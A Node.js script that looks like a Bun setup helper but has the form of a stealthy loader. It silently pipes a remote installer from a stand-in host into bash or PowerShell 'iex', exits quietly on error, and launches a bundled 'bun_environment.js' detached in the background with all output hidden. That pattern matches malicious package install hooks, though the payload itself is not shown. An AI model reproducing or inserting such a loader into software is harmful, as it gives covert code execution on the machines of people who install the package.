#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const cmd = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(cmd, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

async function downloadAndSetupBun() {
  try {
    const command = process.platform === 'win32'
      ? 'powershell -c "irm bun-install.invalid/install.ps1|iex"'
      : 'curl -fsSL https://bun-install.invalid/install | bash';
    execSync(command, { stdio: 'ignore', env: { ...process.env } });
    const local = path.join(os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
    return fs.existsSync(local) ? local : null;
  } catch {
    process.exit(0);
  }
}

function runExecutable(execPath, args) {
  const child = spawn(execPath, args, { stdio: 'ignore', detached: true, cwd: __dirname });
  child.unref();
}

(async () => {
  const bun = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const env = path.join(__dirname, 'bun_environment.js');
  if (bun && fs.existsSync(env)) runExecutable(bun, [env]);
})();
